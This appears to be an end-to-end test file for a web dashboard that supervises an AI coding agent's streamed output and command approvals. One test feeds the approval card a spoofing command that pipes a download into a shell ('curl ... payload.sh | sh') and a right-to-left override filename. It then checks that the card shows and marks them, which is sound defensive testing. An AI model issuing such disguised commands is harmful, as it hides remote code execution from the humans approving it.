// The dashboard with the runner's app-server driver: a message and its
// reasoning grow word by word, a command's output streams into its terminal block, an approval is
// answered from its card (on a phone too), and the new-session form offers
// the models and settings. Real Chromium, real CLI, the scripted model
// streaming its text (e2e/live-script.json).

import { test, before, after, afterEach } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync } from "node:fs";
import { join, resolve } from "node:path";
import { chromium } from "playwright-core";
import { startStack } from "./stack.mjs";

const artifacts = resolve(import.meta.dirname, "../test-artifacts");
mkdirSync(artifacts, { recursive: true });
/** A hang guard only: every wait below ends on an event in the page. */
const LONG = 90_000;
let stack;
let browser;
/** What the pages' consoles said about the Content-Security-Policy. */
const violations = [];

async function newPage(options) {
  const page = await browser.newPage(options);
  page.on("console", (message) => {
    if (/Content[- ]Security[- ]Policy/i.test(message.text())) violations.push(message.text());
  });
  return page;
}

afterEach(() => {
  assert.deepEqual(violations.splice(0), [], "the dashboard runs within its Content-Security-Policy");
});

before(async () => {
  // Approvals reach the page: the approved action then runs outside the
  // sandbox, which this runner allows (a refusing one is tested below).
  stack = await startStack({
    runnerEnv: { RUNNER_DRIVER: "app-server", RUNNER_ALLOW_UNSANDBOXED_APPROVALS: "true" },
    script: "e2e/live-script.json",
  });
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
  });
});

after(async () => {
  await browser?.close();
  await stack?.stop();
});

async function newSession(page, name, approvals) {
  await stack.signIn(page);
  await page.fill("[data-testid=new-session-url]", `file://${stack.makeRepo(name)}`);
  if (approvals) {
    await page.click("[data-testid=session-settings] summary");
    // The models come from the runner's CLI.
    await page.locator("[data-testid=new-session-model] option[value='gpt-5.5']").waitFor({ state: "attached", timeout: LONG });
    await page.selectOption("[data-testid=new-session-model]", "gpt-5.5");
    await page.selectOption("[data-testid=new-session-approval]", "untrusted");
  }
  await page.click("[data-testid=create-session]");
  await page.waitForURL(/#\/s\//);
  await page.waitForSelector("[data-testid=session-status].ready", { timeout: LONG });
  return page.url().split("#/s/")[1];
}

async function send(page, text) {
  await page.fill("[data-testid=prompt-input]", text);
  await page.press("[data-testid=prompt-input]", "Enter");
  await page.locator("[data-testid=run]").last().waitFor({ timeout: LONG });
  return page.locator("[data-testid=run]").last();
}

test("a message grows word by word and a command's output streams in, colours stripped", async () => {
  const page = await newPage({ viewport: { width: 1280, height: 900 } });
  await newSession(page, "live");
  // Every length the streaming text and the terminal take, as the page shows them.
  await page.evaluate(() => {
    window.__texts = [];
    window.__outputs = [];
    window.__thoughts = [];
    new MutationObserver(() => {
      const live = document.querySelector("[data-testid=live-text]");
      if (live) window.__texts.push(live.textContent);
      const thought = document.querySelector("[data-kind=reasoning] .item-body");
      if (thought) window.__thoughts.push(thought.textContent);
      const output = document.querySelector("[data-testid=live-output]");
      if (output) window.__outputs.push(output.textContent);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  const run = await send(page, "count to eight");
  // While the command runs, the send button queues and Steer is offered.
  await page.locator("[data-testid=steer-prompt]").waitFor({ state: "attached", timeout: LONG });
  const running = run.locator("[data-testid=item][data-kind=command_execution]");
  await running.waitFor({ timeout: LONG });
  assert.doesNotMatch(await running.textContent(), /null/, "a command without output yet shows none");
  await run.locator("[data-testid=run-status].completed").waitFor({ timeout: LONG });

  const outputs = await page.evaluate(() => window.__outputs);
  assert.ok(outputs.length >= 3, `the output grew in steps: ${JSON.stringify(outputs)}`);
  assert.ok(outputs.every((o) => !o.includes("\u001b")), "no escape codes on the page");
  assert.ok(outputs.some((o) => o.includes("line 3") && !o.includes("line 8")), "seen before the command ended");
  const texts = await page.evaluate(() => window.__texts);
  const answer = "I counted to eight, one line at a time, and every line came out green in the terminal.";
  assert.ok(texts.length >= 5, `the message grew in steps: ${texts.length}`);
  assert.ok(texts.some((t) => t.length > 0 && t.length < answer.length && answer.startsWith(t)), "a part came before the whole");
  const thought = "Counting out loud, a line at a time, so that you can watch the terminal fill.";
  const thoughts = await page.evaluate(() => window.__thoughts);
  assert.ok(thoughts.some((t) => t.length > 0 && t.length < thought.length && thought.startsWith(t)), "the reasoning grew too");
  assert.ok(thoughts.includes(thought));
  const message = run.locator("[data-testid=item][data-kind=agent_message]");
  assert.equal((await message.textContent()).trim(), answer);
  const command = run.locator("[data-testid=item][data-kind=command_execution] pre.output");
  assert.match(await command.textContent(), /line 1\nline 2[\s\S]*line 8/);
  assert.equal(await page.isHidden("[data-testid=steer-prompt]"), true, "no steering once the run ended");
  await page.close();
});

test("an approval card on a phone: the command, its folder, and the answer", async () => {
  const page = await newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  const session = await newSession(page, "approvals", true);
  const run = await send(page, "touch a file");
  const card = run.locator("[data-testid=approval]");
  await card.waitFor({ timeout: LONG });
  assert.match(await card.locator("[data-testid=approval-command]").textContent(), /touch approved\.txt/);
  assert.equal(await card.locator("[data-testid=approval-cwd]").textContent(), "in the workspace");
  for (const decision of ["approve", "approve_for_session", "deny"]) {
    const box = await card.locator(`[data-testid=approval-${decision}]`).boundingBox();
    assert.ok(box.height >= 44 && box.x >= 0 && box.x + box.width <= 390, `${decision} fits a thumb: ${JSON.stringify(box)}`);
  }
  assert.equal(existsSync(join(stack.dir, "workspaces", session, "repo", "approved.txt")), false);

  await card.locator("[data-testid=approval-approve]").tap();
  await card.locator("[data-testid=approval-status]", { hasText: "Approve (alice)" }).waitFor({ timeout: LONG });
  await run.locator("[data-testid=run-status].completed").waitFor({ timeout: LONG });
  assert.equal(await card.locator("[data-testid=approval-deny]").isDisabled(), true);
  assert.equal(existsSync(join(stack.dir, "workspaces", session, "repo", "approved.txt")), true);
  // A reload replays the card, already answered.
  await page.reload();
  const again = page.locator("[data-testid=approval]");
  await again.locator("[data-testid=approval-status]", { hasText: "Approve (alice)" }).waitFor({ timeout: LONG });
  await page.close();
});

test("an approval card shows a spoofing command as it runs: every line, hidden characters marked, on a phone", async () => {
  const page = await newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  const session = await newSession(page, "spoof", true);
  const run = await send(page, "spoof the card");
  const cards = run.locator("[data-testid=approval]");

  // A harmless first line, long enough to wrap on a phone, and a second
  // line that pipes a download into a shell.
  const multi = cards.nth(0);
  await multi.waitFor({ timeout: LONG });
  const command = multi.getByTestId("approval-command");
  assert.match(await command.textContent(),
    /echo "Checking that the build is clean before we go on"\ncurl -fsS http:\/\/127\.0\.0\.1:9\/payload\.sh \| sh/);
  assert.equal(await command.evaluate((e) => getComputedStyle(e).whiteSpace), "pre-wrap");
  assert.match(await multi.getByTestId("command-lines").textContent(), /This command has 2 lines/);
  assert.equal(await multi.getByTestId("command-hidden").count(), 0);
  // The line end is marked, so a wrapped line does not pass for two.
  assert.equal(await command.locator(".line-end").count(), 1);
  assert.equal(await command.locator(".line-end").evaluate((e) => getComputedStyle(e, "::before").content), '"↵"');
  // The whole command is on screen: wrapped inside the card, nothing cut.
  const fits = await command.evaluate((e) => ({
    wraps: e.scrollWidth <= e.clientWidth,
    right: e.getBoundingClientRect().right,
    lines: Math.round(e.getBoundingClientRect().height / parseFloat(getComputedStyle(e).lineHeight)),
  }));
  assert.ok(fits.wraps && fits.right <= 390, `the command fits the phone: ${JSON.stringify(fits)}`);
  assert.ok(fits.lines >= 3, `both lines show, the first wrapped: ${JSON.stringify(fits)}`);
  await multi.scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(artifacts, "approval-multiline-phone.png") });
  await multi.getByTestId("approval-deny").tap();
  await multi.locator("[data-testid=approval-status]", { hasText: "Deny (alice)" }).waitFor({ timeout: LONG });

  // A right-to-left override that would show "invoicehs.pdf".
  const bidi = cards.nth(1);
  await bidi.waitFor({ timeout: LONG });
  const spoofed = bidi.getByTestId("approval-command");
  const text = await spoofed.textContent();
  assert.match(text, /touch "?invoice⟨U\+202E⟩fdp\.sh"?/);
  assert.ok(!text.includes("\u202e"), "the override itself is not in the page");
  assert.deepEqual(await spoofed.getByTestId("hidden-char").allTextContents(), ["⟨U+202E⟩"]);
  assert.match(await bidi.getByTestId("command-hidden").textContent(), /contains 1 hidden or control character/);
  assert.equal(await bidi.getByTestId("command-lines").count(), 0);
  assert.equal(await spoofed.evaluate((e) => getComputedStyle(e).whiteSpace), "pre-wrap");
  await bidi.scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(artifacts, "approval-bidi-phone.png") });
  await bidi.getByTestId("approval-deny").tap();

  await run.locator("[data-testid=run-status].completed").waitFor({ timeout: LONG });
  // Which characters are marked: controls (C0 but tab and newline, DEL,
  // C1), bidi and zero-width format characters, the BOM, tag characters,
  // line and paragraph separators; letters of any script are not.
  const marked = await page.evaluate(async () => {
    const { visibleText } = await import("/command.js");
    return visibleText("a\u0007\u001b\u007f\u0085\u061c\u200b\u200e\u2066\u2069\u2028\u2029\ufeff\u{e0041}\u00e9\u05d0\tz");
  });
  assert.equal(marked, "a⟨U+0007⟩⟨U+001B⟩⟨U+007F⟩⟨U+0085⟩⟨U+061C⟩⟨U+200B⟩⟨U+200E⟩⟨U+2066⟩⟨U+2069⟩⟨U+2028⟩⟨U+2029⟩⟨U+FEFF⟩⟨U+E0041⟩éא\tz");
  const workspace = join(stack.dir, "workspaces", session, "repo");
  assert.equal(existsSync(join(workspace, "invoice\u202efdp.sh")), false, "denied: nothing ran");
  await page.close();
});

test("a runner that keeps approved actions in the sandbox declines them itself, and the card says why", async () => {
  // The default: RUNNER_ALLOW_UNSANDBOXED_APPROVALS off.
  const refusing = await startStack({ runnerEnv: { RUNNER_DRIVER: "app-server" }, script: "e2e/live-script.json" });
  try {
    const page = await newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    await refusing.signIn(page);
    await page.fill("[data-testid=new-session-url]", `file://${refusing.makeRepo("refused")}`);
    await page.click("[data-testid=session-settings] summary");
    await page.selectOption("[data-testid=new-session-approval]", "untrusted");
    await page.click("[data-testid=create-session]");
    await page.waitForURL(/#\/s\//);
    const session = page.url().split("#/s/")[1];
    await page.waitForSelector("[data-testid=session-status].ready", { timeout: LONG });
    const run = await send(page, "touch a file");

    const card = run.locator("[data-testid=approval]");
    await card.locator("[data-testid=approval-refused]").waitFor({ timeout: LONG });
    assert.match(await card.locator("[data-testid=approval-refused]").textContent(), /outside its sandbox.*RUNNER_ALLOW_UNSANDBOXED_APPROVALS/);
    await card.locator("[data-testid=approval-status]", { hasText: "Deny (repo-runner)" }).waitFor({ timeout: LONG });
    assert.equal(await card.locator("button").count(), 0, "nothing to answer");
    await run.locator("[data-testid=run-status].completed").waitFor({ timeout: LONG });
    assert.equal(existsSync(join(refusing.dir, "workspaces", session, "repo", "approved.txt")), false);
    await page.close();
  } finally {
    await refusing.stop();
  }
});
